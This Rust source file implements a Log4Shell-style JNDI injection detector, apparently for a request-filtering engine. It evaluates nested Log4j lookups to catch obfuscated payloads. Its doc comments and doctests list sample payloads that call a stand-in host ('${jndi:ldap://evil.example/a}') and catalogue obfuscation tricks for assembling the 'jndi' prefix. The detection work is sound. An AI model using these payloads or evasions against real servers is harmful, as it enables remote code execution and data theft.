//! Log4Shell-style lookup injection: `${jndi:ldap://…}` and the nested
//! lookups Log4j 2 resolves before it ever sees the `jndi` prefix.
//!
//! Log4j 2 (before 2.15) expands `${prefix:name}` lookups in logged text,
//! and a `jndi:` lookup fetches and runs a remote object. Since every header
//! and parameter may be logged, the payload can sit anywhere. Attackers hide
//! the prefix behind lookups that Log4j resolves first, so this detector
//! does not match strings: it **evaluates** the lookup syntax the way
//! Log4j's `StrSubstitutor` does, innermost lookup first, and judges the
//! prefix each lookup ends up with:
//!
//! | written | resolves to | why |
//! |---|---|---|
//! | `${lower:J}`, `${upper:j}` | `j`, `J` | case functions (also `ı` → `I`, as Java uppercases it) |
//! | `${::-j}`, `${env:NOPE:-j}`, `${x:y:-j}` | `j` | the default after `:-` of a lookup that resolves to nothing |
//! | `${date:'j'}` | `j` | quoted literal of a date pattern |
//! | `${base64:am5kaQ==}`, `${base64Decoder:…}` | `jndi` | base64 lookups |
//! | `${env:USER}` (no default) | itself | unknown values stay as written, as in Log4j |
//!
//! The prefix is compared case-insensitively (Log4j lowercases it). When the
//! text resolved in one round still holds a lookup (`${:1337:-x$}{jndi:…}`
//! becomes `x${jndi:…}`, and `$${…}` escapes), it is evaluated again, at
//! most [`MAX_ROUNDS`] times.
//!
//! | rule | structure |
//! |---|---|
//! | `jndi.lookup` | a lookup whose prefix is in `lookups` (`${jndi:ldap://x/a}`), written as such |
//! | `jndi.obfuscated` | the same, but the prefix is only assembled by nested lookups, defaults or case functions |
//!
//! A lookup needs a non-empty remainder after its prefix. An unclosed one
//! (`${jndi:ldap://x/a?b=c` — a query parser splits the payload at `&`)
//! counts when the remainder starts with a URL scheme. Text with `${name}`
//! placeholders, shell `${HOME}` / `${VAR:-default}` and Spring
//! `${server.port:8080}` resolves to nothing listed and passes.
//!
//! Encodings (`%24%7B`, `$\u007B`, `&#36;{`, `$&lbrace;`) are not decoded
//! here: the engine gives every value a second, normalised reading.
//!
//! Cost: a value without the bytes `${` followed somewhere by `:` is
//! rejected after one byte scan. Evaluation is bounded: nesting depth
//! [`MAX_DEPTH`], [`MAX_ROUNDS`] rounds, each linear in the value times the
//! depth.
//!
//! ```
//! use envoy_rasp::engine::detect::jndi::{Jndi, JndiConfig};
//! use envoy_rasp::engine::detect::ValueCtx;
//! use envoy_rasp::engine::surface::Surface;
//!
//! let d = Jndi::compile(&JndiConfig::default(), "jndi_injection").unwrap().unwrap();
//! let h = ValueCtx::value(Surface::Header);
//! assert_eq!(d.detect(b"${jndi:ldap://evil.example/a}", &h).unwrap().rule, "jndi.lookup");
//! let obf = d.detect(b"${${lower:j}${::-n}${env:X:-d}i:rmi://evil.example/a}", &h).unwrap();
//! assert_eq!(obf.rule, "jndi.obfuscated");
//! assert!(d.detect(b"Hello ${name}, your order ${order.id} shipped", &h).is_none());
//! assert!(d.detect(b"cd ${HOME:-/root} && echo ${PATH}", &h).is_none());
//! ```

use crate::engine::detect::Detector;
use crate::engine::error::{ConfigErrors, FieldPath};
use crate::engine::section::{FieldNote, ACTION_NOTE};
use std::borrow::Cow;

use serde::{Deserialize, Serialize};

use crate::engine::detect::sensitivity::Sensitivity;

use super::{Hit, ValueCtx};
use crate::engine::bytes::find_byte as find1;
use crate::engine::bytes::starts_ci as starts_with_fold;
use crate::engine::error::ConfigError;
use crate::engine::mode::Action;

/// Deepest lookup nesting evaluated; deeper `${` are read as text.
pub const MAX_DEPTH: usize = 16;
/// Most evaluation rounds (a round's result is evaluated again while it
/// changes and still holds `${`).
pub const MAX_ROUNDS: usize = 3;

/// Configuration section `jndi_injection`.
#[derive(Clone, Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct JndiConfig {
    /// `block` (default), `log` or `off`.
    pub action: Action,
    /// Which weak-evidence rules fire for this detector: `low`, `medium`
    /// or `high` (see the top-level `sensitivity`). Default `null`: the
    /// top-level `sensitivity`.
    pub sensitivity: Option<Sensitivity>,
    /// Lookup prefixes (case-insensitive) that are flagged once a lookup
    /// resolves to one of them. Default `jndi` (Log4j: fetches and runs a
    /// remote object) and `script` (Apache Commons Text interpolation,
    /// "Text4Shell": runs a script). Add `dns`, `url` or `file` to also flag
    /// the Commons Text lookups that fetch or read; `env`, `sys` or `ctx` to
    /// flag probes that would copy secrets into logs.
    pub lookups: Vec<String>,
}

impl Default for JndiConfig {
    fn default() -> Self {
        JndiConfig {
            action: Action::Block,
            sensitivity: None,
            lookups: vec!["jndi".to_string(), "script".to_string()],
        }
    }
}

/// The compiled detector.
#[derive(Clone, Debug)]
pub struct Jndi {
    action: Action,
    /// Lowercase prefixes.
    lookups: Vec<String>,
}

/// A flagged lookup, before it becomes a [`Hit`].
#[derive(Clone, Copy, Debug)]
struct Found {
    /// Index into `lookups`.
    lookup: usize,
    /// The prefix was written literally right after the lookup's `${`.
    literal: bool,
    start: usize,
    end: usize,
}

impl Jndi {
    /// Compiles the section; `None` when the action is `off`. Every entry
    /// of `lookups` must be a non-empty lookup name (letters, digits, `_`,
    /// `-`, `.`).
    pub fn compile(cfg: &JndiConfig, field: &str) -> Result<Option<Jndi>, ConfigError> {
        let mut lookups = Vec::with_capacity(cfg.lookups.len());
        for (i, l) in cfg.lookups.iter().enumerate() {
            let name = l.trim().trim_end_matches(':');
            let ok = !name.is_empty()
                && name.len() <= 64
                && name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"_-.".contains(&b));
            if !ok {
                return Err(ConfigError::new(
                    format!("{field}.lookups[{i}]"),
                    format!("{l:?} is not a lookup name (letters, digits, '_', '-', '.')"),
                ));
            }
            lookups.push(name.to_ascii_lowercase());
        }
        if cfg.action == Action::Off {
            return Ok(None);
        }
        Ok(Some(Jndi {
            action: cfg.action,
            lookups,
        }))
    }

    /// The configured action.
    pub fn action(&self) -> Action {
        self.action
    }

    /// Inspects one value (any surface, keys included). The span covers the
    /// lookup; for a lookup that only appears after a first round of
    /// evaluation, it runs from the first `${` to the end of the value.
    pub fn detect(&self, value: &[u8], _ctx: &ValueCtx) -> Option<Hit> {
        let first = find_lookup_start(value)?;
        // Every lookup that resolves to anything needs a `:` (the prefix
        // separator, or the `:-` of a default).
        find1(value, first, b':')?;
        let mut current: Cow<'_, [u8]> = Cow::Borrowed(value);
        for round in 0..MAX_ROUNDS {
            let mut ev = Eval {
                det: self,
                found: None,
                limit: value.len().saturating_mul(2).saturating_add(256),
            };
            let mut out = Vec::with_capacity(current.len());
            ev.text(&current, 0, 0, &mut out, false);
            if let Some(f) = ev.found {
                return Some(self.hit(f, round == 0, first, value.len()));
            }
            if out.as_slice() == &*current || find_lookup_start(&out).is_none() {
                return None;
            }
            current = Cow::Owned(out);
        }
        None
    }

    fn hit(&self, f: Found, first_round: bool, first: usize, len: usize) -> Hit {
        let name = self.lookups.get(f.lookup).map(String::as_str).unwrap_or("");
        let literal = f.literal && first_round;
        let (start, end) = if first_round {
            (f.start, f.end.min(len))
        } else {
            (first, len)
        };
        let rule = if literal {
            "jndi.lookup"
        } else {
            "jndi.obfuscated"
        };
        let reason: Cow<'static, str> = match (name, literal) {
            ("jndi", true) => Cow::Borrowed(
                "Log4j JNDI lookup `${jndi:…}`: the logger fetches and runs a remote object",
            ),
            ("jndi", false) => Cow::Borrowed(
                "`${jndi:…}` lookup assembled from nested lookups (case functions, `:-` defaults)",
            ),
            (n, true) => Cow::Owned(format!("`${{{n}:…}}` interpolation lookup")),
            (n, false) => Cow::Owned(format!(
                "`${{{n}:…}}` interpolation lookup assembled from nested lookups"
            )),
        };
        Hit {
            rule: Cow::Borrowed(rule),
            reason,
            start,
            end,
        }
    }

    /// The index of the listed lookup that `prefix` names.
    fn listed(&self, prefix: &[u8]) -> Option<usize> {
        self.lookups
            .iter()
            .position(|l| l.as_bytes().eq_ignore_ascii_case(prefix))
    }
}

/// The position of the first `${`.
fn find_lookup_start(v: &[u8]) -> Option<usize> {
    let mut from = 0;
    loop {
        let at = find1(v, from, b'$')?;
        if v.get(at + 1) == Some(&b'{') {
            return Some(at);
        }
        from = at + 1;
    }
}

/// One round of evaluation.
struct Eval<'d> {
    det: &'d Jndi,
    found: Option<Found>,
    /// Longest output accepted (case functions can grow text: `ß` → `SS`).
    limit: usize,
}

impl Eval<'_> {
    /// Copies `s[from..]` to `out`, replacing each lookup with what it
    /// resolves to. With `in_lookup`, stops after the `}` that closes the
    /// current lookup. Returns the index after what was read and whether
    /// that `}` was found.
    fn text(
        &mut self,
        s: &[u8],
        from: usize,
        depth: usize,
        out: &mut Vec<u8>,
        in_lookup: bool,
    ) -> (usize, bool) {
        let mut i = from;
        while let Some(&b) = s.get(i) {
            if self.found.is_some() || out.len() > self.limit {
                return (s.len(), true);
            }
            if b == b'$' && s.get(i + 1) == Some(&b'{') && depth < MAX_DEPTH {
                i = self.lookup(s, i, depth + 1, out);
                continue;
            }
            if b == b'}' && in_lookup {
                return (i + 1, true);
            }
            out.push(b);
            i += 1;
        }
        (i, false)
    }

    /// Reads the lookup whose `${` is at `start`, appends what it resolves
    /// to and returns the index after it.
    fn lookup(&mut self, s: &[u8], start: usize, depth: usize, out: &mut Vec<u8>) -> usize {
        let mut key = Vec::new();
        let (end, closed) = self.text(s, start + 2, depth, &mut key, true);
        if self.found.is_some() {
            return end;
        }
        let literal = s
            .get(start + 2..)
            .and_then(|rest| {
                let colon = rest.iter().take(65).position(|&b| b == b':')?;
                self.det.listed(rest.get(..colon)?)
            })
            .is_some();
        if !closed {
            // Log4j leaves an unclosed lookup as text; flag it when it
            // clearly names a listed lookup of a URL.
            if let Some(lookup) = self.listed_with(&key, true) {
                self.found = Some(Found {
                    lookup,
                    literal,
                    start,
                    end,
                });
                return end;
            }
            out.extend_from_slice(b"${");
            out.extend_from_slice(&key);
            return end;
        }
        if let Some(lookup) = self.listed_with(&key, false) {
            self.found = Some(Found {
                lookup,
                literal,
                start,
                end,
            });
            return end;
        }
        match resolve(&key) {
            Some(v) => out.extend_from_slice(&v),
            None => {
                // Unresolved: stays as written (with nested lookups resolved).
                out.extend_from_slice(b"${");
                out.extend_from_slice(&key);
                out.push(b'}');
            }
        }
        end
    }

    /// The listed lookup that the resolved `key` calls, if any: its prefix
    /// (before the first `:`) is listed and something follows. With
    /// `scheme`, what follows must start with a URL scheme (`ldap:`).
    fn listed_with(&self, key: &[u8], scheme: bool) -> Option<usize> {
        let colon = key.iter().position(|&b| b == b':')?;
        let idx = self.det.listed(key.get(..colon)?)?;
        let rest = key.get(colon + 1..)?;
        if rest.is_empty() || rest.starts_with(b"-") {
            return None; // `${jndi:-x}` is a default, not a lookup of `x`
        }
        if scheme && !starts_with_scheme(rest) {
            return None;
        }
        Some(idx)
    }
}

/// `[a-z][a-z0-9+.-]*:` at the start.
fn starts_with_scheme(s: &[u8]) -> bool {
    let n = s
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || b"+.-".contains(b))
        .count();
    n >= 2 && s.first().is_some_and(u8::is_ascii_alphabetic) && s.get(n) == Some(&b':')
}

/// What a closed lookup with (already resolved) `key` turns into, `None`
/// when it stays as written.
fn resolve(key: &[u8]) -> Option<Vec<u8>> {
    // `name:-default`: Log4j splits off the default first and uses it when
    // the name resolves to nothing.
    let (name, default) = match find_pair(key, b":-") {
        Some(i) => (key.get(..i)?, key.get(i + 2..)),
        None => (key, None),
    };
    if let Some(colon) = name.iter().position(|&b| b == b':') {
        let prefix = name.get(..colon)?;
        let rest = name.get(colon + 1..)?;
        let fun = |p: &[u8]| prefix.eq_ignore_ascii_case(p);
        if fun(b"lower") {
            return Some(String::from_utf8_lossy(rest).to_lowercase().into_bytes());
        }
        if fun(b"upper") {
            return Some(String::from_utf8_lossy(rest).to_uppercase().into_bytes());
        }
        if fun(b"date") {
            return Some(date_literal(rest));
        }
        if fun(b"base64") || fun(b"base64decoder") {
            if let Some(v) = base64_decode(rest) {
                return Some(v);
            }
        }
        if starts_with_fold(prefix, b"urldecoder") {
            return Some(crate::engine::decode::percent_decode(rest, true).into_owned());
        }
    }
    // Anything else (`env:`, `sys:`, unknown names): an attacker can only
    // rely on it resolving to nothing, so the default is what counts.
    default.map(<[u8]>::to_vec)
}

/// The output of a `SimpleDateFormat` pattern, as far as it is fixed:
/// quoted text is literal (`''` is a quote), letters are date fields
/// (written `0` here), everything else is literal.
fn date_literal(p: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(p.len());
    let mut quoted = false;
    let mut i = 0;
    while let Some(&b) = p.get(i) {
        if b == b'\'' {
            if p.get(i + 1) == Some(&b'\'') {
                out.push(b'\'');
                i += 2;
                continue;
            }
            quoted = !quoted;
        } else if quoted || !b.is_ascii_alphabetic() {
            out.push(b);
        } else {
            out.push(b'0');
        }
        i += 1;
    }
    out
}

/// Standard or URL-safe base64, padding optional; `None` when `s` is not
/// base64.
fn base64_decode(s: &[u8]) -> Option<Vec<u8>> {
    let body = s
        .strip_suffix(b"==")
        .or_else(|| s.strip_suffix(b"="))
        .unwrap_or(s);
    if body.is_empty() || body.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for &c in body {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn find_pair(s: &[u8], pat: &[u8; 2]) -> Option<usize> {
    s.windows(2).position(|w| w == pat)
}

impl Detector for Jndi {
    type Config = JndiConfig;

    const NOTES: &'static [FieldNote] = &[
        FieldNote::new("", "Log4Shell-style lookup injection (`${jndi:…}`, also assembled by nested lookups such as `${${lower:j}ndi:…}` or `${::-j}`), on every surface and every request header."),
        FieldNote::new("action", ACTION_NOTE),
        FieldNote::new("lookups", "Lookup prefixes flagged once a lookup resolves to one of them: `jndi` (Log4j) and `script` (Commons Text, Text4Shell) by default; add `dns`, `url`, `file`, or `env`, `sys`, `ctx` for probes that copy secrets into logs."),
        FieldNote::new("lookups[]", "A lookup prefix without `:`."),
    ];

    fn compile(cfg: &JndiConfig, at: &FieldPath) -> Result<Option<Jndi>, ConfigErrors> {
        Ok(Jndi::compile(cfg, at.as_str())?)
    }

    fn action(&self) -> Action {
        Jndi::action(self)
    }

    /// A lookup starts at `${` and resolves through a `:`.
    fn needs(&self) -> crate::engine::detect::detector::Needs {
        use crate::engine::bytes::Signature as S;
        use crate::engine::detect::detector::Needs as N;
        const NEEDS: N = N::NEVER.or_all(S::DOLLAR | S::BRACE | S::COLON);
        NEEDS
    }

    const EVERY_HEADER: bool = true;

    fn detect(&self, value: &[u8], ctx: &ValueCtx) -> Option<Hit> {
        Jndi::detect(self, value, ctx)
    }
}

#[cfg(test)]
mod tests;
